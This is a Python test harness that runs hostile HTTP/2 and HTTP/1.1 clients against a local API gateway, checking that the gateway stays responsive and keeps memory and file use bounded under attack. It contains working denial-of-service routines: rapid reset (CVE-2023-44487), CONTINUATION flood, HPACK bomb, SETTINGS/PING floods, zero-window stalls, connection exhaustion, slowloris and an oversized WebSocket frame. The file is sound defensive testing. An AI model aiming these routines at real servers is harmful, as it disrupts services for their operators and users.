#!/usr/bin/python3
"""Hostile HTTP/2 and HTTP/1.1 clients against a running cc-gateway (issue 20).

Run by test_gateway_hostile (which starts the servers, cc-user and the
gateway with its limits) as:

    hostile_clients.py PORT GATEWAY_PID TOKEN [ATTACK...]

Each attack runs for a few seconds while a normal client (HTTP/1.1 GET
/v1/users/me with the token: a real RPC through NATS to cc-user) keeps
asking. For each it prints one line of figures and fails when:
  - the normal client got an error or waited longer than NORMAL_MAX_S;
  - the gateway's resident memory grew more than RSS_MAX_MIB over what it
    had before the attack (sampled every 100 ms during it);
  - the gateway's open files did not come back within FD_SLACK of where
    they were once the attack's sockets are gone;
  - the attack's own expectation failed (the connection was cut, a
    counter in /metrics moved).
Debian's python3-h2 frames the HTTP/2 attacks; raw sockets do the rest.
"""

import os
import resource
import socket
import ssl
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
from hpack import Encoder

PORT = int(sys.argv[1])
PID = int(sys.argv[2])
TOKEN = sys.argv[3]
ONLY = set(sys.argv[4:])

NORMAL_MAX_S = 3.0     # a normal request during an attack
RSS_MAX_MIB = 48       # growth allowed during one attack
FD_SLACK = 8           # open files allowed above the level before the attack
ATTACK_S = 6.0         # how long each attack runs

failures = []


def rss_kib():
    with open(f"/proc/{PID}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def nfds():
    return len(os.listdir(f"/proc/{PID}/fd"))


def metrics():
    """The gateway's /metrics as {name{labels}: value}."""
    s = socket.create_connection(("127.0.0.1", PORT), timeout=5)
    s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    data = b""
    while True:
        b = s.recv(65536)
        if not b:
            break
        data += b
    s.close()
    out = {}
    for line in data.split(b"\r\n\r\n", 1)[-1].decode().splitlines():
        if line and not line.startswith("#"):
            k, _, v = line.rpartition(" ")
            try:
                out[k] = float(v)
            except ValueError:
                pass
    return out


def counter(m, name):
    return sum(v for k, v in m.items() if k.startswith(name))


def closed_for(m, reason):
    return m.get(f'cc_gateway_connections_closed_total{{reason="{reason}"}}', 0.0)


def normal_request():
    """One GET /v1/users/me over HTTP/1.1; (ok, seconds)."""
    t0 = time.monotonic()
    try:
        s = socket.create_connection(("127.0.0.1", PORT), timeout=NORMAL_MAX_S * 3)
        s.sendall(("GET /v1/users/me HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                   f"Authorization: Bearer {TOKEN}\r\n\r\n").encode())
        data = b""
        while True:
            b = s.recv(65536)
            if not b:
                break
            data += b
        s.close()
        return data.startswith(b"HTTP/1.1 200"), time.monotonic() - t0
    except OSError:
        return False, time.monotonic() - t0


class Prober(threading.Thread):
    """The normal client: a request every 100 ms while an attack runs."""

    def __init__(self):
        super().__init__(daemon=True)
        self.stop = threading.Event()
        self.n = self.bad = 0
        self.worst = 0.0
        self.rss_peak = 0

    def run(self):
        while not self.stop.is_set():
            ok, dt = normal_request()
            self.n += 1
            self.bad += not ok or dt > NORMAL_MAX_S
            self.worst = max(self.worst, dt)
            self.rss_peak = max(self.rss_peak, rss_kib())
            self.stop.wait(0.1)


def h2_socket(settings=None):
    s = socket.create_connection(("127.0.0.1", PORT), timeout=10)
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                             header_encoding="utf-8"))
    c.initiate_connection()
    if settings:
        c.update_settings(settings)
    s.sendall(c.data_to_send())
    return s, c


def request_headers(path="/v1/users/me"):
    return [(":method", "GET"), (":scheme", "http"), (":authority", "127.0.0.1"),
            (":path", path), ("authorization", f"Bearer {TOKEN}")]


def frame(ftype, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream) + payload


def peer_closed(s, wait=3.0):
    """True when the peer closed (or reset) the socket within wait."""
    s.settimeout(0.2)
    end = time.monotonic() + wait
    while time.monotonic() < end:
        try:
            b = s.recv(1 << 20)
            if not b:
                return True
        except socket.timeout:
            continue
        except OSError:
            return True
    return False


def goaway_or_closed(s, wait=3.0):
    """True when a GOAWAY frame came or the socket closed within wait."""
    s.settimeout(0.2)
    buf = b""
    end = time.monotonic() + wait
    while time.monotonic() < end:
        try:
            b = s.recv(1 << 20)
        except socket.timeout:
            continue
        except OSError:
            return True
        if not b:
            return True
        buf += b
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            if buf[3] == 0x7:
                return True
            buf = buf[9 + n:]
    return False


# ---- the attacks: each returns (figures, problem or None) --------------------------------


def rapid_reset():
    """CVE-2023-44487: HEADERS then RST_STREAM at once, in a loop."""
    s, c = h2_socket()
    sent = 0
    t_end = time.monotonic() + ATTACK_S
    cut = False
    try:
        while time.monotonic() < t_end:
            for _ in range(100):
                sid = c.get_next_available_stream_id()
                c.send_headers(sid, request_headers(), end_stream=True)
                c.reset_stream(sid)
                sent += 1
            s.sendall(c.data_to_send())
            try:
                s.setblocking(False)
                if s.recv(1 << 20) == b"":
                    cut = True
                    break
            except BlockingIOError:
                pass
            finally:
                s.setblocking(True)
    except (OSError, h2.exceptions.ProtocolError):
        cut = True
    cut = cut or goaway_or_closed(s)
    s.close()
    return f"{sent} streams reset", None if cut else "the connection was never cut"


def continuation_flood():
    """CVE-2024-27316 family: HEADERS without END_HEADERS, then endless CONTINUATION."""
    s, c = h2_socket()
    enc = Encoder()
    block = enc.encode(request_headers())
    s.sendall(frame(0x1, 0x1, 1, block))  # HEADERS, END_STREAM, no END_HEADERS
    sent = 0
    junk = enc.encode([("x-junk", "a" * 1000)])
    t_end = time.monotonic() + ATTACK_S
    try:
        while time.monotonic() < t_end:
            s.sendall(frame(0x9, 0x0, 1, junk) * 16)
            sent += 16 * len(junk)
    except OSError:
        pass
    cut = goaway_or_closed(s)
    s.close()
    return f"{sent >> 10} KiB of CONTINUATION", None if cut else "the connection was never cut"


def hpack_bomb():
    """A 4 KiB header put in the dynamic table once, then referenced by its
    one-byte index as many times as a frame holds, on many streams."""
    s, c = h2_socket()
    # Literal with incremental indexing, new name: it becomes index 62.
    name, value = b"x-bomb", b"b" * 4000
    lit = bytes([0x40]) + bytes([len(name)]) + name + bytes([0x7f]) + \
        _hpack_int(len(value) - 127) + value
    enc = Encoder()
    first = enc.encode(request_headers())
    s.sendall(frame(0x1, 0x5, 1, first + lit))  # END_STREAM | END_HEADERS
    refs = bytes([0x80 | 62]) * 16000
    streams = 0
    t_end = time.monotonic() + ATTACK_S
    sid = 3
    try:
        while time.monotonic() < t_end and sid < 2000:
            s.sendall(frame(0x1, 0x5, sid, first + refs))
            sid += 2
            streams += 1
            time.sleep(0.005)
    except OSError:
        pass
    ok = True
    s.close()
    return f"{streams} requests of 16000 x 4 KiB headers", None if ok else "?"


def _hpack_int(n):
    out = b""
    while n >= 128:
        out += bytes([(n & 0x7f) | 0x80])
        n >>= 7
    return out + bytes([n])


def flood(kind):
    """SETTINGS or PING frames as fast as the socket takes them, never reading
    the acknowledgements: the answers pile up on the gateway's side."""
    s, c = h2_socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    one = frame(0x6, 0, 0, b"12345678") if kind == "ping" else frame(0x4, 0, 0, b"")
    chunk = one * 4096
    sent = 0
    s.settimeout(1.0)
    t_end = time.monotonic() + ATTACK_S
    cut = False
    try:
        while time.monotonic() < t_end:
            s.sendall(chunk)
            sent += 4096
    except socket.timeout:
        # The gateway stopped reading us: that is a bound too.
        pass
    except OSError:
        cut = True
    cut = cut or peer_closed(s, 4.0)
    s.close()
    return f"{sent} {kind.upper()} frames", None if cut else "the connection was never cut"


def settings_flood():
    return flood("settings")


def ping_flood():
    return flood("ping")


def zero_window():
    """A window of 0: answers can never be sent; requests on every stream
    the gateway allows, on 20 connections, held open."""
    socks = []
    for _ in range(20):
        s, c = h2_socket({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        for _ in range(100):
            sid = c.get_next_available_stream_id()
            c.send_headers(sid, request_headers("/v1/openapi.json"), end_stream=True)
        try:
            s.sendall(c.data_to_send())
        except OSError:
            pass
        socks.append(s)
    time.sleep(ATTACK_S)
    open_ = sum(not peer_closed(s, 0.01) for s in socks)
    for s in socks:
        s.close()
    return f"20 connections x 100 stalled streams, {open_} still open at the end", None


def idle_connections():
    """Thousands of connections that send nothing."""
    want = 3000
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, want + 256), hard))
    socks = []
    for _ in range(want):
        try:
            socks.append(socket.create_connection(("127.0.0.1", PORT), timeout=5))
        except OSError:
            break
    opened = len(socks)
    time.sleep(ATTACK_S)
    left = sum(not peer_closed(s, 0.001) for s in socks)
    for s in socks:
        s.close()
    problem = None if opened >= want else f"only {opened} connections opened"
    return f"{opened} idle connections, {left} still open after {ATTACK_S:.0f} s", problem


def slowloris_headers():
    """200 connections sending their request line and headers a byte at a time."""
    socks = [socket.create_connection(("127.0.0.1", PORT)) for _ in range(200)]
    head = b"GET /v1/users/me HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 1000
    t_end = time.monotonic() + ATTACK_S
    i = 0
    while time.monotonic() < t_end and i < len(head):
        for s in socks:
            try:
                s.send(head[i:i + 1])
            except OSError:
                pass
        i += 1
        time.sleep(0.25)
    alive = sum(not peer_closed(s, 0.01) for s in socks)
    for s in socks:
        s.close()
    return f"200 connections, {i} bytes each, {alive} still open", \
        None if alive == 0 else f"{alive} slow connections still open"


def slowloris_body():
    """200 POSTs announcing 1 MB of body and sending it a byte at a time."""
    socks = [socket.create_connection(("127.0.0.1", PORT)) for _ in range(200)]
    for s in socks:
        s.send(b"POST /v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
               b"Content-Length: 1000000\r\n\r\n{")
    t_end = time.monotonic() + ATTACK_S
    n = 0
    while time.monotonic() < t_end:
        for s in socks:
            try:
                s.send(b" ")
            except OSError:
                pass
        n += 1
        time.sleep(0.25)
    alive = sum(not peer_closed(s, 0.01) for s in socks)
    for s in socks:
        s.close()
    return f"200 bodies, {n} bytes each, {alive} still open", \
        None if alive == 0 else f"{alive} slow bodies still open"


def ws_oversized_frame():
    """A WebSocket frame announcing 2 GiB: refused as it starts (1009)."""
    s = socket.create_connection(("127.0.0.1", PORT), timeout=5)
    s.sendall(("GET /v1/live HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
               f"Authorization: Bearer {TOKEN}\r\n\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        b = s.recv(4096)
        if not b:
            break
        head += b
    if not head.startswith(b"HTTP/1.1 101"):
        return "no upgrade", f"upgrade refused: {head[:40]!r}"
    s.sendall(bytes([0x82, 0xff]) + struct.pack(">Q", 1 << 31) + b"\0\0\0\0" + b"x" * 65536)
    rest = head.split(b"\r\n\r\n", 1)[1]
    s.settimeout(3)
    try:
        while len(rest) < 4:
            b = s.recv(4096)
            if not b:
                break
            rest += b
    except OSError:
        pass
    s.close()
    code = struct.unpack(">H", rest[2:4])[0] if len(rest) >= 4 and rest[0] == 0x88 else None
    return f"2 GiB frame announced, close code {code}", None if code == 1009 else "no close 1009"


ATTACKS = [
    ("rapid-reset", rapid_reset, "rapid-reset"),
    ("continuation-flood", continuation_flood, None),
    ("hpack-bomb", hpack_bomb, "header-bomb"),
    ("settings-flood", settings_flood, "write-stall"),
    ("ping-flood", ping_flood, "write-stall"),
    ("zero-window", zero_window, "unread-answers"),
    ("idle-connections", idle_connections, None),
    ("slowloris-headers", slowloris_headers, None),
    ("slowloris-body", slowloris_body, None),
    ("ws-oversized-frame", ws_oversized_frame, None),
]


def main():
    print(f"{'attack':20} {'normal req':>10} {'worst s':>8} {'rss MiB':>16} {'fds':>11}  what")
    for name, fn, reason in ATTACKS:
        if ONLY and name not in ONLY:
            continue
        time.sleep(0.5)
        rss0, fd0, m0 = rss_kib(), nfds(), metrics()
        p = Prober()
        p.start()
        try:
            what, problem = fn()
        except Exception as e:  # an attack that breaks is a failure of the test, named
            what, problem = "", f"the attack raised {e!r}"
        p.stop.set()
        p.join()
        peak = max(p.rss_peak, rss_kib())
        # The gateway lets go of the attack's sockets: its files come back.
        fd1 = nfds()
        for _ in range(100):
            if fd1 <= fd0 + FD_SLACK:
                break
            time.sleep(0.1)
            fd1 = nfds()
        m1 = metrics()
        grew = (peak - rss0) / 1024
        print(f"{name:20} {p.n - p.bad:>4}/{p.n:<5} {p.worst:>8.3f} "
              f"{rss0 / 1024:>6.1f} -> {peak / 1024:>6.1f} {fd0:>4} -> {fd1:<4}  {what}",
              flush=True)
        problems = []
        if problem:
            problems.append(problem)
        if p.n == 0 or p.bad:
            problems.append(f"{p.bad} of {p.n} normal requests failed or took over "
                            f"{NORMAL_MAX_S} s (worst {p.worst:.2f} s)")
        if grew > RSS_MAX_MIB:
            problems.append(f"RSS grew {grew:.1f} MiB (at most {RSS_MAX_MIB})")
        if fd1 > fd0 + FD_SLACK:
            problems.append(f"open files {fd0} -> {fd1}")
        if reason and closed_for(m1, reason) <= closed_for(m0, reason):
            problems.append(f'cc_gateway_connections_closed_total{{reason="{reason}"}} '
                            "did not move")
        for pr in problems:
            failures.append(f"{name}: {pr}")
            print(f"  FAIL {name}: {pr}", flush=True)
    m = metrics()
    closed = [(k.split("reason=")[1].strip('"}'), int(v)) for k, v in sorted(m.items())
              if k.startswith("cc_gateway_connections_closed_total")]
    print("closed by a limit: " + ", ".join(f"{k}={v}" for k, v in closed))
    if failures:
        print(f"{len(failures)} failures")
        sys.exit(1)
    print("every attack bounded")


if __name__ == "__main__":
    main()
